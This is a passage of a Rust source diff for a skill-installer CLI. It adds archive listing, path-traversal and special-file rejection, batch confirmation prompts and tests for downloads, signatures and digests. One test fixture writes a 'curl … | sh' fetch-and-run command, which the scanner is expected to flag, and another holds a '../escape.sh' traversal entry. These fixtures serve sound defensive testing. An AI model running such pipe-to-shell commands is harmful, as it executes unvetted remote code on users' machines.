+                    problem: entry_problem(Path::new(entry.name())).or(link_problem),
+                    path: entry.name().to_string(),
+                    kind,
+                    size: entry.size(),
+                    encrypted: entry.encrypted(),
+                });
+            }
+        }
+        ArchiveType::Tar => list_tar_entries(file, &mut listed)?,
+        ArchiveType::TarGz => list_tar_entries(GzDecoder::new(file), &mut listed)?,
+    }
+    Ok(listed)
+}
+
+fn list_tar_entries<R: Read>(reader: R, listed: &mut Vec<ArchiveEntry>) -> Result<()> {
+    let mut archive = Archive::new(reader);
+    for entry in archive.entries()? {
+        let entry = entry?;
+        let path = entry.path()?.into_owned();
+        let entry_type = entry.header().entry_type();
+        let (kind, link_problem) = if entry_type.is_symlink() {
+            ("symlink", Some("links are rejected"))
+        } else if entry_type.is_hard_link() {
+            ("link", Some("links are rejected"))
+        } else if entry_type.is_dir() {
+            ("dir", None)
+        } else if entry_type.is_file() {
+            ("file", None)
+        } else if entry_type.is_pax_global_extensions() {
+            continue;
+        } else {
+            (
+                special_entry_kind(entry_type),
+                Some("special files are rejected"),
+            )
+        };
+        listed.push(ArchiveEntry {
+            problem: entry_problem(&path).or(link_problem),
+            path: path.to_string_lossy().into_owned(),
+            kind,
+            size: entry.header().size().unwrap_or(0),
+            encrypted: false,
+        });
+    }
+    Ok(())
+}
+
+/// What a tar entry that is neither a file, a directory nor a link is, for errors.
+fn special_entry_kind(entry_type: EntryType) -> &'static str {
+    match entry_type {
+        EntryType::Fifo => "fifo",
+        EntryType::Char => "character device",
+        EntryType::Block => "block device",
+        _ => "special file",
+    }
+}
+
+const MAX_ENTRY_PATH_CHARS: usize = 200;
+const MAX_ENTRY_NAME_BYTES: usize = 255;
+
+/// Entries that would overwrite each other on a case-insensitive filesystem (macOS,
+/// Windows), or whose paths are too long to create there once under a skills root.
+fn entry_path_problems(entries: &[ArchiveEntry]) -> Vec<String> {
+    let mut problems = Vec::new();
+    let mut seen: BTreeMap<String, (String, bool)> = BTreeMap::new();
+    for entry in entries {
+        let Ok(safe_path) = sanitize_archive_path(Path::new(&entry.path)) else {
+            continue;
+        };
+        let normalized = safe_path
+            .components()
+            .map(|component| component.as_os_str().to_string_lossy())
+            .collect::<Vec<_>>()
+            .join("/");
+        if normalized.is_empty() {
+            continue;
+        }
+        let length = normalized.chars().count();
+        if length > MAX_ENTRY_PATH_CHARS {
+            problems.push(format!(
+                "{normalized}: path is {length} characters (limit {MAX_ENTRY_PATH_CHARS})"
+            ));
+        }
+        if let Some(name) = safe_path
+            .components()
+            .map(|component| component.as_os_str().len())
+            .find(|len| *len > MAX_ENTRY_NAME_BYTES)
+        {
+            problems.push(format!(
+                "{normalized}: a path component is {name} bytes (limit {MAX_ENTRY_NAME_BYTES})"
+            ));
         }
 
-        let out_path = dest.join(&safe_path);
-        if let Some(parent) = out_path.parent() {
-            fs::create_dir_all(parent)?;
+        let is_dir = entry.kind == "dir";
+        match seen.get(&normalized.to_lowercase()) {
+            // Two directory entries differing in case just merge.
+            Some((_, true)) if is_dir => {}
+            Some((first, _)) if *first != normalized => problems.push(format!(
+                "{first} and {normalized} collide on case-insensitive filesystems"
+            )),
+            Some(_) => {}
+            None => {
+                seen.insert(normalized.to_lowercase(), (normalized, is_dir));
+            }
         }
-        entry.unpack(&out_path)?;
     }
-    Ok(())
+    problems
+}
+
+fn entry_problem(path: &Path) -> Option<&'static str> {
+    sanitize_archive_path(path)
+        .is_err()
+        .then_some("path escapes the archive")
 }
 
 fn sanitize_archive_path(path: &Path) -> Result<PathBuf> {
@@ -782,44 +8251,155 @@ fn copy_with_limit<R: Read, W: Write>(
 
 fn confirm(prompt: &str) -> Result<bool> {
     let mut input = String::new();
-    print!("{} [y/N]: ", prompt);
-    io::stdout().flush()?;
+    eprint!("{} [y/N]: ", prompt);
+    io::stderr().flush()?;
     io::stdin().read_line(&mut input)?;
     let response = input.trim().to_ascii_lowercase();
     Ok(matches!(response.as_str(), "y" | "yes"))
 }
 
-fn copy_dir_filtered(src: &Path, dest: &Path) -> Result<()> {
-    for entry in WalkDir::new(src).follow_links(false) {
-        let entry = entry?;
-        let rel_path = entry.path().strip_prefix(src)?;
-        if should_skip(rel_path) {
-            continue;
+/// Asks once before acting on several skills. The rows are listed with numbers, and
+/// typing numbers (`2`, `1,3`, `4-6`) toggles rows out of or back into the batch
+/// before answering yes. Returns the chosen row indices, or `None` if cancelled.
+fn confirm_batch(prompt: &str, rows: &[String]) -> Result<Option<Vec<usize>>> {
+    let width = rows.len().to_string().len();
+    let mut selected = vec![true; rows.len()];
+    loop {
+        for (index, row) in rows.iter().enumerate() {
+            let mark = if selected[index] { 'x' } else { ' ' };
+            eprintln!("  [{mark}] {:>width$}. {row}", index + 1);
+        }
+        let count = selected.iter().filter(|chosen| **chosen).count();
+        let answer = prompt_choice(&format!(
+            "{prompt} ({count} of {} selected) [y/N, or numbers to toggle]:",
+            rows.len()
+        ))?;
+        match answer.as_str() {
+            "y" | "yes" if count == 0 => {
+                eprintln!("Nothing selected");
+                return Ok(None);
+            }
+            "y" | "yes" => {
+                let chosen = (0..rows.len()).filter(|&index| selected[index]).collect();
+                return Ok(Some(chosen));
+            }
+            "" | "n" | "no" => return Ok(None),
+            input => match parse_toggles(input, rows.len()) {
+                Ok(toggles) => {
+                    for index in toggles {
+                        selected[index] = !selected[index];
+                    }
+                }
+                Err(err) => eprintln!("{err}"),
+            },
+        }
+    }
+}
+
+/// Parses 1-based row numbers and ranges separated by commas or spaces into indices.
+fn parse_toggles(input: &str, len: usize) -> Result<Vec<usize>, String> {
+    let row = |token: &str| match token.trim().parse::<usize>() {
+        Ok(number) if (1..=len).contains(&number) => Ok(number - 1),
+        _ => Err(format!("`{token}` is not a row number between 1 and {len}")),
+    };
+    let mut indices = Vec::new();
+    for token in input
+        .split(|c: char| c == ',' || c.is_whitespace())
+        .filter(|token| !token.is_empty())
+    {
+        match token.split_once('-') {
+            Some((start, end)) => {
+                let (start, end) = (row(start)?, row(end)?);
+                if start > end {
+                    return Err(format!("`{token}` is an empty range"));
+                }
+                indices.extend(start..=end);
+            }
+            None => indices.push(row(token)?),
         }
+    }
+    Ok(indices)
+}
+
+/// Reads one trimmed line of free text, unlike `prompt_choice` keeping its case.
+fn prompt_text(prompt: &str) -> Result<String> {
+    let mut input = String::new();
+    eprint!("{prompt} ");
+    io::stderr().flush()?;
+    io::stdin().read_line(&mut input)?;
+    Ok(input.trim().to_string())
+}
+
+fn prompt_choice(prompt: &str) -> Result<String> {
+    let mut input = String::new();
+    eprint!("{prompt} ");
+    io::stderr().flush()?;
+    io::stdin().read_line(&mut input)?;
+    Ok(input.trim().to_ascii_lowercase())
+}
 
+/// Copies the files and directories of a skill tree. Symlinks are left out with a
+/// warning, as `scan` reports them, and FIFOs, sockets and devices are an error.
+pub(crate) fn copy_dir_filtered(src: &Path, dest: &Path) -> Result<()> {
+    let mut files = Vec::new();
+    for entry in walk_skill_tree(src) {
+        let entry = entry?;
+        let rel_path = entry.path().strip_prefix(src)?;
         let target = dest.join(rel_path);
-        if entry.file_type().is_dir() {
+        let file_type = entry.file_type();
+        if file_type.is_dir() {
             fs::create_dir_all(&target)?;
-        } else if entry.file_type().is_file() {
+        } else if file_type.is_file() {
             if let Some(parent) = target.parent() {
                 fs::create_dir_all(parent)?;
             }
-            fs::copy(entry.path(), &target)
-                .with_context(|| format!("failed to copy {}", entry.path().display()))?;
+            files.push((entry.into_path(), target));
+        } else if file_type.is_symlink() {
+            eprintln!(
+                "Warning: skipped symlink {} (links are not installed)",
+                entry.path().display()
+            );
+        } else {
+            return Err(anyhow!(
+                "{} is a {}; skills can only contain files and directories",
+                entry.path().display(),
+                special_file_kind(file_type).unwrap_or("special file")
+            ));
         }
     }
+
+    parallel::map(&files, |(source, target)| {
+        copy_file_fast(source, target)
+            .with_context(|| format!("failed to copy {}", source.display()))
+    })?;
     Ok(())
 }
 
-fn skill_size(path: &Path) -> Result<u64> {
-    let mut total = 0u64;
-    for entry in WalkDir::new(path).follow_links(false) {
-        let entry = entry?;
-        let rel_path = entry.path().strip_prefix(path)?;
-        if should_skip(rel_path) {
-            continue;
+/// Clones the file via copy-on-write (clonefile on APFS, FICLONE on btrfs/XFS) when the
+/// filesystem supports it, falling back to a regular copy otherwise.
+fn copy_file_fast(src: &Path, dest: &Path) -> io::Result<()> {
+    if reflink_copy::reflink_or_copy(src, dest)?.is_none() {
+        // Reflinks don't carry permission bits the way fs::copy does.
+        fs::set_permissions(dest, fs::metadata(src)?.permissions())?;
+    }
+    Ok(())
+}
+
+/// Number of files an install of the tree at `path` copies.
+fn file_count(path: &Path) -> Result<usize> {
+    let mut count = 0;
+    for entry in walk_skill_tree(path) {
+        if entry?.file_type().is_file() {
+            count += 1;
         }
+    }
+    Ok(count)
+}
 
+pub(crate) fn skill_size(path: &Path) -> Result<u64> {
+    let mut total = 0u64;
+    for entry in walk_skill_tree(path) {
+        let entry = entry?;
         if entry.file_type().is_file() {
             total += entry.metadata()?.len();
         }
@@ -827,7 +8407,39 @@ fn skill_size(path: &Path) -> Result<u64> {
     Ok(total)
 }
 
-fn should_skip(rel_path: &Path) -> bool {
+/// Entries of a skill tree as installs copy them and scans check them: links are not
+/// followed, and what [`should_skip`] names is left out along with everything below it.
+pub(crate) fn walk_skill_tree(
+    root: &Path,
+) -> impl Iterator<Item = walkdir::Result<walkdir::DirEntry>> {
+    let base = root.to_path_buf();
+    WalkDir::new(root)
+        .follow_links(false)
+        .into_iter()
+        .filter_entry(move |entry| !entry.path().strip_prefix(&base).is_ok_and(should_skip))
+}
+
+/// Names FIFOs, sockets and devices, which neither scans nor installs read as files.
+pub(crate) fn special_file_kind(file_type: fs::FileType) -> Option<&'static str> {
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::FileTypeExt;
+        if file_type.is_fifo() {
+            return Some("FIFO");
+        }
+        if file_type.is_socket() {
+            return Some("socket");
+        }
+        if file_type.is_block_device() || file_type.is_char_device() {
+            return Some("device");
+        }
+    }
+    #[cfg(not(unix))]
+    let _ = file_type;
+    None
+}
+
+pub(crate) fn should_skip(rel_path: &Path) -> bool {
     rel_path.components().any(|component| {
         matches!(
             component.as_os_str().to_str(),
@@ -842,6 +8454,40 @@ mod tests {
     use std::fs;
     use tempfile::tempdir;
 
+    fn hashes(entries: &[(&str, &str)]) -> BTreeMap<String, String> {
+        entries
+            .iter()
+            .map(|(path, hash)| (path.to_string(), hash.to_string()))
+            .collect()
+    }
+
+    #[test]
+    fn changelog_excerpt_shows_new_entries_or_latest_section() {
+        let installed = "# Changelog\n\n## 1.0.0\n- Initial release\n";
+        let upstream = "# Changelog\n\n## 1.1.0\n- Add PDF forms\n\n## 1.0.0\n- Initial release\n";
+
+        assert_eq!(
+            changelog_excerpt(upstream, Some(installed)),
+            vec!["## 1.1.0", "- Add PDF forms"]
+        );
+        assert_eq!(
+            changelog_excerpt(upstream, None),
+            vec!["## 1.1.0", "- Add PDF forms"]
+        );
+    }
+
+    #[test]
+    fn conflicting_paths_only_reports_files_changed_on_both_sides() {
+        let base = hashes(&[("SKILL.md", "a"), ("notes.md", "b"), ("same.md", "c")]);
+        let local = hashes(&[("SKILL.md", "a2"), ("notes.md", "b2"), ("same.md", "c2")]);
+        let upstream = hashes(&[("SKILL.md", "a"), ("notes.md", "b3"), ("same.md", "c2")]);
+        let local_changes = manifest::changes(&base, &local);
+        let upstream_changes = manifest::changes(&base, &upstream);
+
+        let conflicts = conflicting_paths(&local_changes, &upstream_changes, &local, &upstream);
+        assert_eq!(conflicts, vec!["notes.md"]);
+    }
+
     fn write_skill(dir: &Path, name: &str) -> PathBuf {
         let skill_dir = dir.join(name);
         fs::create_dir_all(&skill_dir).expect("create skill dir");
@@ -905,6 +8551,297 @@ mod tests {
         assert!(result.is_err());
     }
 
+    #[test]
+    fn find_skill_dirs_lists_each_skill_once_and_unwraps_archive_roots() {
+        let temp = tempdir().expect("temp dir");
+        let repo = temp.path().join("repo-main");
+        let skills = repo.join("skills");
+        let alpha = write_skill(&skills, "alpha");
+        write_skill(&alpha.join("examples"), "inner");
+        let beta = write_skill(&skills, "beta");
+        write_skill(&repo.join(".git"), "ignored");
+
+        assert_eq!(archive_root(temp.path()).unwrap(), repo);
+        assert_eq!(find_skill_dirs(&repo).unwrap(), vec![alpha, beta.clone()]);
+        assert_eq!(select_skill_dir(&repo, Some("beta")).unwrap(), beta);
+        let err = select_skill_dir(&repo, None).unwrap_err();
+        assert!(err.to_string().contains("--all"), "{err}");
+    }
+
+    #[test]
+    fn effective_settings_name_the_source_of_each_value() {
+        let temp = tempdir().expect("temp dir");
+        let paths = AppPaths {
+            config_dir: temp.path().to_path_buf(),
+            config_file: temp.path().join("config.yaml"),
+            data_dir: temp.path().join("data"),
+            usage_file: temp.path().join("usage.json"),
+            cache_dir: temp.path().join("cache"),
+            skills_base_dir: temp.path().join("skills"),
+        };
+        let mut config = Config {
+            jobs: Some(2),
+            gitlab_host: Some("git.acme.dev".to_string()),
+            ..Config::default()
+        };
+        config.skills_roots.codex = Some(temp.path().join("codex-root"));
+
+        let settings = effective_settings(&config, &paths, &[Assistant::Codex]);
+        let find = |key: &str| {
+            let setting = settings
+                .iter()
+                .find(|setting| setting.key == key)
+                .unwrap_or_else(|| panic!("no {key} setting"));
+            (setting.value.as_str(), setting.source.as_str())
+        };
+        assert_eq!(find("config_file").1, "missing, defaults in use");
+        let codex_root = temp.path().join("codex-root").display().to_string();
+        assert_eq!(
+            find("skills_root.codex"),
+            (codex_root.as_str(), "config skills_roots.codex")
+        );
+        assert_eq!(find("jobs").1, "config");
+        assert_eq!(find("gitlab_host"), ("git.acme.dev", "config"));
+        assert_eq!(find("cache_max_size"), ("unlimited", "default"));
+        assert!(!settings
+            .iter()
+            .any(|setting| setting.key == "skills_root.opencode"));
+    }
+
+    #[test]
+    fn source_locks_accept_respellings_and_refuse_other_sources() {
+        let identity = |source: &str| source_identity(source, hosts::DEFAULT_GITLAB_HOST);
+        let github = identity("https://github.com/Acme/skills.git");
+        assert_eq!(identity("acme/skills@v2"), github);
+        assert_eq!(identity("github:acme/skills"), github);
+        assert_eq!(identity("https://github.com/acme/skills/"), github);
+        assert_ne!(identity("acme/skilIs"), github);
+
+        let mut manifest = InstallManifest::default();
+        manifest.lock_source(Assistant::Codex, "pdf", "acme/skills@v1");
+        let origin = |source: &str| AddOrigin {
+            assistant: Assistant::Codex,
+            system: false,
+            source: source.to_string(),
+            identity: identity(source),
+            reference: None,
+            commit: None,
+            archive_digest: None,
+            resolved_url: None,
+            web_repo: None,
+            replace: false,
+            source_dir: PathBuf::new(),
+            downloaded: true,
+            link: false,
+        };
+        let options = SourceOptions {
+            gitlab_host: hosts::DEFAULT_GITLAB_HOST.to_string(),
+            ..SourceOptions::default()
+        };
+        let check = |source: &str, retarget: bool| {
+            check_source_lock(&manifest, &origin(source), "pdf", retarget, &options)
+        };
+        assert!(check("https://github.com/acme/skills", false).is_ok());
+        let err = check("acme/skilIs", false).unwrap_err();
+        assert!(err.to_string().contains("--retarget"), "{err}");
+        assert!(check("acme/skilIs", true).is_ok());
+        assert!(
+            check_source_lock(&manifest, &origin("acme/skilIs"), "other", false, &options).is_ok()
+        );
+    }
+
+    #[test]
+    fn download_archive_resumes_an_interrupted_transfer() {
+        use std::io::{BufRead, BufReader};
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
+        let url = format!("http://{}/skill.zip", listener.local_addr().expect("addr"));
+        let body = b"0123456789";
+        let ranges = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+        let seen = ranges.clone();
+        std::thread::spawn(move || {
+            for stream in listener.incoming() {
+                let mut stream = stream.expect("connection");
+                let mut reader = BufReader::new(stream.try_clone().expect("clone"));
+                let mut request_line = String::new();
+                reader.read_line(&mut request_line).expect("request");
+                let mut range = None;
+                let mut header = String::new();
+                while reader.read_line(&mut header).expect("header") > 2 {
+                    if let Some(value) = header.strip_prefix("Range: ") {
+                        range = Some(value.trim().to_string());
+                    }
+                    header.clear();
+                }
+                let response = if request_line.contains(".sig") {
+                    b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
+                        .to_vec()
+                } else if range.is_some() {
+                    let mut response = b"HTTP/1.1 206 Partial Content\r\nETag: \"v1\"\r\nContent-Range: bytes 4-9/10\r\nContent-Length: 6\r\nConnection: close\r\n\r\n".to_vec();
+                    response.extend_from_slice(&body[4..]);
+                    response
+                } else {
+                    // Promises the whole body but hangs up after four bytes.
+                    let mut response = b"HTTP/1.1 200 OK\r\nETag: \"v1\"\r\nContent-Length: 10\r\nConnection: close\r\n\r\n".to_vec();
+                    response.extend_from_slice(&body[..4]);
+                    response
+                };
+                seen.lock().expect("lock").push(range);
+                stream.write_all(&response).expect("respond");
+            }
+        });
+
+        let temp = tempdir().expect("tempdir");
+        let options = SourceOptions {
+            cache: Some(DownloadCache::new(temp.path(), Default::default())),
+            ..SourceOptions::default()
+        };
+        let download = || download_archive(&url, ArchiveType::Zip, &options, None, temp.path());
+        let Err(err) = download() else {
+            panic!("the cut-off download succeeded");
+        };
+        assert!(format!("{err:#}").contains("resume"), "{err:#}");
+
+        let archive = download().expect("resumed download");
+        assert_eq!(fs::read(&archive.path).expect("archive"), body);
+        assert!(!archive.path.with_extension("part").exists());
+        assert_eq!(
+            ranges.lock().expect("lock").as_slice(),
+            [None, Some("bytes=4-".to_string()), None]
+        );
+    }
+
+    #[test]
+    fn unreachable_signature_only_fails_when_signatures_are_required() {
+        use std::io::{BufRead, BufReader};
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
+        let url = format!("http://{}/skill.zip", listener.local_addr().expect("addr"));
+        std::thread::spawn(move || {
+            for stream in listener.incoming() {
+                let mut stream = stream.expect("connection");
+                let mut reader = BufReader::new(stream.try_clone().expect("clone"));
+                let mut line = String::new();
+                while reader.read_line(&mut line).expect("request") > 2 {
+                    line.clear();
+                }
+                stream
+                    .write_all(
+                        b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
+                    )
+                    .expect("respond");
+            }
+        });
+
+        let temp = tempdir().expect("tempdir");
+        let archive = temp.path().join("skill.zip");
+        fs::write(&archive, b"archive").expect("write archive");
+        let mut options = SourceOptions::default();
+        verify_adjacent_signature(&url, &archive, temp.path(), &options)
+            .expect("a forbidden signature is only a warning");
+        options.require_signatures = true;
+        let err = verify_adjacent_signature(&url, &archive, temp.path(), &options)
+            .expect_err("required signatures must be fetched");
+        assert!(format!("{err:#}").contains("403"), "{err:#}");
+    }
+
+    #[test]
+    fn compare_skill_dirs_reports_files_frontmatter_and_new_findings() {
+        let temp = tempdir().expect("tempdir");
+        let (installed, candidate) = (temp.path().join("installed"), temp.path().join("candidate"));
+        fs::create_dir_all(&installed).expect("installed");
+        fs::create_dir_all(candidate.join("scripts")).expect("candidate");
+        fs::write(
+            installed.join("SKILL.md"),
+            "---\nname: demo\ndescription: Demo\n---\n\nBody\n",
+        )
+        .expect("write");
+        fs::write(installed.join("notes.md"), "old notes\n").expect("write");
+        fs::write(
+            candidate.join("SKILL.md"),
+            "---\nname: demo\ndescription: Demo\nversion: 2.0.0\n---\n\nBody\n",
+        )
+        .expect("write");
+        fs::write(
+            candidate.join("scripts/run.sh"),
+            "curl https://example.com/x.sh | sh\n",
+        )
+        .expect("write");
+
+        let comparison =
+            compare_skill_dirs(&installed, &candidate, &Config::default()).expect("compare");
+        assert_eq!(comparison.changes.added, ["scripts/run.sh"]);
+        assert_eq!(comparison.changes.modified, ["SKILL.md"]);
+        assert_eq!(comparison.changes.removed, ["notes.md"]);
+        assert_eq!(
+            comparison.fields,
+            [(
+                "version".to_string(),
+                None,
+                Some(serde_json::json!("2.0.0"))
+            )]
+        );
+        assert_eq!(comparison.installed_findings, 0);
+        assert!(comparison.new_findings.iter().any(|issue| {
+            issue.rule == "risky-command"
+                && issue.path.as_deref() == Some(Path::new("scripts/run.sh"))
+        }));
+    }
+
+    #[test]
+    fn tag_stats_counts_skills_under_every_label() {
+        let data: BTreeSet<String> = ["data".to_string(), "csv".to_string()].into();
+        let docs: BTreeSet<String> = ["docs".to_string()].into();
+        let none = BTreeSet::new();
+        let stats = tag_stats([(&data, 800, 1), (&docs, 150, 19), (&none, 50, 0)]);
+
+        assert_eq!(stats.len(), 4);
+        assert_eq!(
+            stats["data"],
+            TagStats {
+                skills: 1,
+                bytes: 800,
+                usage: 1
+            }
+        );
+        assert_eq!(stats["csv"], stats["data"]);
+        assert_eq!(stats["docs"].usage, 19);
+        assert_eq!(stats[UNTAGGED_LABEL].bytes, 50);
+    }
+
+    #[test]
+    fn file_types_follow_extension_then_content() {
+        assert_eq!(
+            FileType::of(Path::new("SKILL.md"), b"---"),
+            FileType::Markdown
+        );
+        assert_eq!(
+            FileType::of(Path::new("scripts/run.py"), b""),
+            FileType::Script
+        );
+        assert_eq!(
+            FileType::of(Path::new("bin/tool"), b"#!/bin/sh\n"),
+            FileType::Script
+        );
+        assert_eq!(
+            FileType::of(Path::new("assets/logo.PNG"), b"\x89PNG"),
+            FileType::Image
+        );
+        assert_eq!(
+            FileType::of(Path::new("data/rows.csv"), b"a,b"),
+            FileType::Data
+        );
+        assert_eq!(
+            FileType::of(Path::new("payload.dat"), b"\x7fELF\0\0"),
+            FileType::Binary
+        );
+        assert_eq!(FileType::of(Path::new("LICENSE"), b"MIT"), FileType::Other);
+
+        let mut bytes = FileTypeBytes::default();
+        bytes.add(FileType::Markdown, 100);
+        bytes.add(FileType::Binary, 300);
+        assert_eq!(bytes.total(), 400);
+        assert_eq!(bytes.non_markdown_share(), "75%");
+    }
+
     #[test]
     fn resolve_skill_root_errors_when_missing() {
         let temp = tempdir().expect("temp dir");
@@ -951,4 +8888,528 @@ mod tests {
         let result = resolve_skill_path(temp.path(), "../escape");
         assert!(result.is_err());
     }
+
+    #[test]
+    fn verify_head_signature_rejects_unsigned_commit() {
+        let temp = tempdir().expect("temp dir");
+        let repo = write_skill(temp.path(), "unsigned-skill");
+        let git = |args: &[&str]| {
+            let status = Command::new("git")
+                .arg("-C")
+                .arg(&repo)
+                .args(["-c", "user.name=test", "-c", "user.email=test@example.com"])
+                .args(["-c", "commit.gpgsign=false"])
+                .args(args)
+                .status()
+                .expect("run git");
+            assert!(status.success());
+        };
+        git(&["init", "--quiet"]);
+        git(&["add", "."]);
+        git(&["commit", "--quiet", "-m", "init"]);
+
+        let options = SourceOptions {
+            require_signed_commits: true,
+            ..SourceOptions::default()
+        };
+        let result = verify_head_signature(&repo, "unsigned-skill", &options);
+        assert!(result.is_err());
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn copy_dir_filtered_preserves_content_and_permissions() {
+        use std::os::unix::fs::PermissionsExt;
+
+        let temp = tempdir().expect("temp dir");
+        let source = write_skill(temp.path(), "copy-source");
+        let script = source.join("run.sh");
+        fs::write(&script, "echo hi\n").expect("write script");
+        fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).expect("chmod");
+        fs::create_dir_all(source.join(".git")).expect("create git dir");
+
+        let dest = temp.path().join("copy-dest");
+        copy_dir_filtered(&source, &dest).expect("copy");
+
+        let copied = dest.join("run.sh");
+        assert_eq!(fs::read_to_string(&copied).expect("read"), "echo hi\n");
+        let mode = fs::metadata(&copied)
+            .expect("metadata")
+            .permissions()
+            .mode();
+        assert_eq!(mode & 0o777, 0o755);
+        assert!(!dest.join(".git").exists());
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn copy_dir_filtered_skips_symlinks_and_refuses_special_files() {
+        let temp = tempdir().expect("temp dir");
+        let source = write_skill(temp.path(), "tree-source");
+        std::os::unix::fs::symlink(temp.path().join("missing"), source.join("dangling"))
+            .expect("symlink");
+
+        let dest = temp.path().join("tree-dest");
+        copy_dir_filtered(&source, &dest).expect("copy");
+        assert!(dest.join("SKILL.md").is_file());
+        assert!(fs::symlink_metadata(dest.join("dangling")).is_err());
+
+        let _socket =
+            std::os::unix::net::UnixListener::bind(source.join("agent.sock")).expect("bind");
+        let err = copy_dir_filtered(&source, &temp.path().join("other-dest")).unwrap_err();
+        assert!(err.to_string().contains("is a socket"), "{err}");
+    }
+
+    #[test]
+    fn list_archive_entries_flags_what_install_would_reject() {
+        let temp = tempdir().unwrap();
+        let archive_path = temp.path().join("skill.zip");
+        let mut zip = zip::ZipWriter::new(File::create(&archive_path).unwrap());
+        let options = zip::write::SimpleFileOptions::default();
+        zip.add_directory("demo/", options).unwrap();
+        zip.start_file("demo/SKILL.md", options).unwrap();
+        zip.write_all(b"# Demo\n").unwrap();
+        zip.start_file("../escape.sh", options).unwrap();
+        zip.write_all(b"echo hi\n").unwrap();
+        zip.finish().unwrap();
+
+        let entries = list_archive_entries(&archive_path, ArchiveType::Zip).unwrap();
+        assert_eq!(
+            entries,
+            vec![
+                ArchiveEntry {
+                    path: "demo/".to_string(),
+                    kind: "dir",
+                    size: 0,
+                    encrypted: false,
+                    problem: None,
+                },
+                ArchiveEntry {
+                    path: "demo/SKILL.md".to_string(),
+                    kind: "file",
+                    size: 7,
+                    encrypted: false,
+                    problem: None,
+                },
+                ArchiveEntry {
+                    path: "../escape.sh".to_string(),
+                    kind: "file",
+                    size: 8,
+                    encrypted: false,
+                    problem: Some("path escapes the archive"),
+                },
+            ]
+        );
+        assert!(!temp.path().join("escape.sh").exists());
+    }
+
+    #[test]
+    fn extract_tar_rejects_special_files() {
+        let temp = tempdir().unwrap();
+        let archive_path = temp.path().join("skill.tar");
+        let mut builder = tar::Builder::new(File::create(&archive_path).unwrap());
+        let mut header = tar::Header::new_gnu();
+        header.set_size(7);
+        header.set_mode(0o644);
+        header.set_cksum();
+        builder
+            .append_data(&mut header, "demo/SKILL.md", &b"# Demo\n"[..])
+            .unwrap();
+        let mut header = tar::Header::new_gnu();
+        header.set_entry_type(EntryType::Fifo);
+        header.set_size(0);
+        header.set_mode(0o644);
+        header.set_cksum();
+        builder
+            .append_data(&mut header, "demo/pipe", std::io::empty())
+            .unwrap();
+        builder.finish().unwrap();
+
+        let dest = temp.path().join("out");
+        let err = extract_tar(&archive_path, &dest).unwrap_err();
+        assert_eq!(err.to_string(), "archive contains fifo: demo/pipe");
+        assert!(!dest.join("demo/pipe").exists());
+        let entries = list_archive_entries(&archive_path, ArchiveType::Tar).unwrap();
+        assert_eq!(entries[1].kind, "fifo");
+        assert_eq!(entries[1].problem, Some("special files are rejected"));
+    }
+
+    #[test]
+    fn prepare_source_extracts_a_local_archive() {
+        let temp = tempdir().unwrap();
+        let archive_path = temp.path().join("vendored.zip");
+        let mut zip = zip::ZipWriter::new(File::create(&archive_path).unwrap());
+        let options = zip::write::SimpleFileOptions::default();
+        zip.start_file("demo/SKILL.md", options).unwrap();
+        zip.write_all(b"---\nname: demo\ndescription: Vendored\n---\n# Demo\n")
+            .unwrap();
+        zip.finish().unwrap();
+        let source = archive_path.to_str().unwrap();
+
+        let prepared = prepare_source(source, &SourceOptions::default()).unwrap();
+        assert!(prepared.dir.ends_with("demo"));
+        assert!(prepared.dir.join("SKILL.md").is_file());
+        assert!(prepared.temp_dir.is_some());
+        assert_eq!(
+            prepared.archive_digest.unwrap(),
+            format!("sha256:{}", manifest::hash_file(&archive_path).unwrap())
+        );
+
+        let options = SourceOptions {
+            reference: Some("main".to_string()),
+            ..SourceOptions::default()
+        };
+        assert!(prepare_source(source, &options).is_err());
+    }
+
+    #[test]
+    fn prepare_source_refuses_unsigned_content_when_signatures_are_required() {
+        let temp = tempdir().unwrap();
+        let skill_dir = write_skill(temp.path(), "signed-skill");
+        let archive_path = temp.path().join("signed-skill.tar.gz");
+        pack::create_pack(&skill_dir, "signed-skill", &archive_path).unwrap();
+        let source = archive_path.to_str().unwrap();
+        let options = SourceOptions {
+            require_signatures: true,
+            ..SourceOptions::default()
+        };
+
+        let err = prepare_source(source, &options).err().unwrap();
+        assert!(err.to_string().contains("has no signature"), "{err}");
+        fs::write(pack::signature_path(&archive_path), "signature").unwrap();
+        let err = prepare_source(source, &options).err().unwrap();
+        assert!(err.to_string().contains("no keys are trusted"), "{err}");
+        assert!(prepare_source(skill_dir.to_str().unwrap(), &options).is_err());
+        assert!(prepare_source(source, &SourceOptions::default()).is_ok());
+    }
+
+    #[test]
+    fn prepare_source_checks_the_expected_archive_digest_before_extracting() {
+        let temp = tempdir().unwrap();
+        let archive_path = temp.path().join("pinned.zip");
+        let mut zip = zip::ZipWriter::new(File::create(&archive_path).unwrap());
+        zip.start_file("demo/SKILL.md", zip::write::SimpleFileOptions::default())
+            .unwrap();
+        zip.write_all(b"---\nname: demo\ndescription: Pinned\n---\n")
+            .unwrap();
+        zip.finish().unwrap();
+        let source = archive_path.to_str().unwrap();
+        let digest = manifest::hash_file(&archive_path).unwrap();
+
+        let options = SourceOptions {
+            expected_sha256: Some(
+                parse_sha256(&format!("sha256:{}", digest.to_uppercase())).unwrap(),
+            ),
+            ..SourceOptions::default()
+        };
+        assert!(prepare_source(source, &options).is_ok());
+
+        let options = SourceOptions {
+            expected_sha256: Some("0".repeat(64)),
+            ..SourceOptions::default()
+        };
+        let err = prepare_source(source, &options).err().unwrap();
+        assert!(err.to_string().contains("checksum mismatch"), "{err}");
+        assert!(prepare_source(temp.path().to_str().unwrap(), &options).is_err());
+        assert!(parse_sha256("abc").is_err());
+    }
+
+    #[test]
+    fn encrypted_zip_needs_the_right_password() {
+        let temp = tempdir().unwrap();
+        let archive_path = temp.path().join("skill.zip");
+        let mut zip = zip::ZipWriter::new(File::create(&archive_path).unwrap());
+        let options = zip::write::SimpleFileOptions::default()
+            .with_aes_encryption(zip::AesMode::Aes256, "s3cret");
+        zip.start_file("demo/SKILL.md", options).unwrap();
